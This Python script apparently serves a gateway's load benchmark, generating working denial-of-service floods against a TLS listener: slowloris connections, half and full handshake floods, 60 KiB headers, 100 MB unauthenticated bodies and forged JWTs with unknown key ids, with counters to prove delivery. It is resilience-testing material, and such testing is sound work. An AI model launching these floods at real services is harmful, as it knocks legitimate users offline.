#!/usr/bin/env python3
"""Attack traffic for the load run (benches/load.sh): one kind of flood against a TLS listener,
kept up until the process is stopped, while wrk measures what legitimate clients still get.

    python3 benches/flood.py KIND HOST:PORT [--workers N] [--source ADDRESS]

KIND is one of
  slowloris   N TLS sessions that send a request head one byte every few seconds, reopened
              when the gateway closes them (header read / first-request timeouts);
  handshake   N loops opening TCP connections that send half a ClientHello and then nothing
              (handshake timeout), and N more completing full TLS handshakes and hanging up
              (the handshake's CPU cost);
  headers     N loops sending requests with 60 KiB of header fields (431 before any routing);
  body        N loops sending a 100 MB body to a route that needs a token, with no token (the
              denial is answered without reading the body);
  tokens      N loops sending forged tokens, each with a kid no issuer serves (signature path
              and the unknown-kid re-fetch cooldown), over keep-alive connections.

The flood comes from its own address (--source, default 127.0.0.2, another loopback address),
as an attacker's would: the per-address connection cap then falls on the flood, not on the
legitimate clients wrk runs from 127.0.0.1.

Every counter (connections opened, requests answered, connections the gateway closed) is
printed to stderr when the process is stopped, so a run can show the flood was really sent.
Standard library only: no package to install on the load machine.
"""

import argparse
import asyncio
import base64
import json
import logging
import os
import signal
import ssl
import sys
import time

counts = {"opened": 0, "answered": 0, "closed_by_gateway": 0, "errors": 0}


def tls_context():
    context = ssl.create_default_context()
    # The demo's certificate is issued by a CA generated for the run; the flood does not care.
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["http/1.1"])
    return context


SOURCE = ("127.0.0.2", 0)


async def open_tls(host, port, context):
    reader, writer = await asyncio.open_connection(
        host, port, ssl=context, server_hostname="localhost", local_addr=SOURCE)
    counts["opened"] += 1
    return reader, writer


async def wait_closed(reader):
    """Reads until the gateway closes the connection; True when it did."""
    try:
        while await reader.read(65536):
            pass
        counts["closed_by_gateway"] += 1
        return True
    except (ConnectionError, ssl.SSLError, OSError):
        counts["closed_by_gateway"] += 1
        return True


async def slowloris(host, port, context):
    head = b"GET /Patient/123 HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"a" * 200
    while True:
        try:
            reader, writer = await open_tls(host, port, context)
            for byte in head:
                writer.write(bytes([byte]))
                await writer.drain()
                try:
                    if await asyncio.wait_for(reader.read(1), timeout=3):
                        break
                    counts["closed_by_gateway"] += 1
                    break
                except asyncio.TimeoutError:
                    continue
            writer.close()
        except (ConnectionError, ssl.SSLError, OSError):
            counts["errors"] += 1
            await asyncio.sleep(0.1)


# A TLS 1.2 ClientHello record header and the first bytes of its body: the gateway must wait
# for the rest, and gives up at its handshake timeout.
HALF_HELLO = bytes.fromhex("16030100c8010000c40303") + os.urandom(32)


async def half_handshake(host, port, _context):
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=SOURCE)
            counts["opened"] += 1
            writer.write(HALF_HELLO)
            await writer.drain()
            await wait_closed(reader)
            writer.close()
        except (ConnectionError, OSError):
            counts["errors"] += 1
            await asyncio.sleep(0.1)


async def full_handshake(host, port, context):
    while True:
        try:
            _reader, writer = await open_tls(host, port, context)
            writer.close()
        except (ConnectionError, ssl.SSLError, OSError):
            counts["errors"] += 1
            await asyncio.sleep(0.1)


async def read_response(reader):
    """Reads one response head and its Content-Length body; None when the connection closed."""
    head = await reader.readuntil(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n"):
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value.strip())
    if length:
        await reader.readexactly(length)
    counts["answered"] += 1
    return head


async def request_loop(host, port, context, make_request):
    """Sends make_request() over keep-alive connections, reconnecting when one closes."""
    while True:
        try:
            reader, writer = await open_tls(host, port, context)
            while True:
                writer.write(make_request())
                await writer.drain()
                head = await read_response(reader)
                if b"connection: close" in head.lower():
                    break
            writer.close()
        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError, OSError):
            counts["closed_by_gateway"] += 1
            await asyncio.sleep(0.01)


def oversized_headers():
    fields = b"".join(b"X-Pad-%d: %s\r\n" % (n, b"p" * 1000) for n in range(60))
    return b"GET /Patient/123 HTTP/1.1\r\nHost: localhost\r\n" + fields + b"\r\n"


async def big_body(host, port, context):
    head = b"POST /Patient HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/fhir+json\r\nContent-Length: 100000000\r\n\r\n"
    chunk = b"x" * 65536
    while True:
        try:
            reader, writer = await open_tls(host, port, context)
            writer.write(head)
            sent = 0
            answered = asyncio.ensure_future(read_response(reader))
            while not answered.done() and not writer.is_closing() and sent < 100_000_000:
                writer.write(chunk)
                await writer.drain()
                sent += len(chunk)
            await asyncio.wait_for(answered, timeout=10)
            writer.close()
        except (asyncio.IncompleteReadError, asyncio.TimeoutError, ConnectionError, ssl.SSLError, OSError):
            counts["closed_by_gateway"] += 1
            await asyncio.sleep(0.01)


def b64(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def forged_token():
    header = b64(json.dumps({"alg": "ES256", "typ": "at+jwt", "kid": os.urandom(8).hex()}).encode())
    now = int(time.time())
    claims = b64(json.dumps({
        "iss": "https://issuer.phigate.demo", "sub": "attacker", "aud": "https://fhir.phigate.demo",
        "exp": now + 300, "iat": now, "jti": os.urandom(8).hex(), "scope": "patient/*.rs",
    }).encode())
    return header + b"." + claims + b"." + b64(os.urandom(64))


def forged_request():
    return (b"GET /Patient/123 HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer "
            + forged_token() + b"\r\n\r\n")


async def main():
    # asyncio warns on every write to a connection the gateway already closed: expected here.
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("kind", choices=["slowloris", "handshake", "headers", "body", "tokens"])
    parser.add_argument("target", help="HOST:PORT of the TLS listener")
    parser.add_argument("--workers", type=int, default=None)
    parser.add_argument("--source", default="127.0.0.2", help="the address the flood comes from")
    args = parser.parse_args()
    global SOURCE
    SOURCE = (args.source, 0)
    host, _, port = args.target.rpartition(":")
    port = int(port)
    context = tls_context()
    default_workers = {"slowloris": 1000, "handshake": 16, "headers": 8, "body": 8, "tokens": 8}
    workers = args.workers or default_workers[args.kind]
    if args.kind == "slowloris":
        loops = [slowloris(host, port, context) for _ in range(workers)]
    elif args.kind == "handshake":
        loops = [half_handshake(host, port, context) for _ in range(workers)]
        loops += [full_handshake(host, port, context) for _ in range(workers)]
    elif args.kind == "headers":
        loops = [request_loop(host, port, context, oversized_headers) for _ in range(workers)]
    elif args.kind == "body":
        loops = [big_body(host, port, context) for _ in range(workers)]
    else:
        loops = [request_loop(host, port, context, forged_request) for _ in range(workers)]
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    asyncio.get_running_loop().add_signal_handler(signal.SIGINT, stop.set)
    tasks = [asyncio.ensure_future(loop) for loop in loops]
    await stop.wait()
    for task in tasks:
        task.cancel()
    print(f"flood {args.kind}: " + " ".join(f"{k}={v}" for k, v in counts.items()), file=sys.stderr)


if __name__ == "__main__":
    asyncio.run(main())
